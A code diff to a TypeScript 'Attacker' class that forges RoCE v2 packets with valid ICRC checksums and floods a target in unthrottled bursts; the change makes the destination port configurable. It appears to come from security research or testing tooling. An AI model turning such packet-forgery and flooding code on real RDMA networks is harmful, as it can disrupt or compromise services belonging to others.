@@ -99,13 +99,13 @@ export class Attacker {
   }
 
   /** The packet with the ICRC for the path from here to `to`. */
-  sealed(packet: Buffer, to: string): Buffer {
+  sealed(packet: Buffer, to: string, port = 4791): Buffer {
     const flow = {
       ipVersion: 4,
       source: Gid.parse(this.address).bytes.subarray(12),
       destination: Gid.parse(to).bytes.subarray(12),
       sourcePort: this.port,
-      destinationPort: 4791,
+      destinationPort: port,
       ipId: 0,
     } as const;
     packet.writeUInt32LE(zlibIcrc(flow, packet), packet.length - ICRC_BYTES);
@@ -123,7 +123,11 @@ export class Attacker {
   async flood(
     address: string,
     make: (index: number) => Buffer | undefined,
-    { perSecond = Infinity, stop }: { perSecond?: number; stop?: AbortSignal } = {},
+    {
+      perSecond = Infinity,
+      stop,
+      port = 4791,
+    }: { perSecond?: number; stop?: AbortSignal; port?: number } = {},
   ): Promise<void> {
     const began = performance.now();
     for (let index = 0; !stop?.aborted;) {
@@ -134,7 +138,7 @@ export class Attacker {
       for (let count = 0; count < BURST; count++) {
         const packet = make(index++);
         if (!packet) return void (await Promise.all(sending));
-        sending.push(this.send(packet, address));
+        sending.push(this.send(packet, address, port));
       }
       await Promise.all(sending);
     }
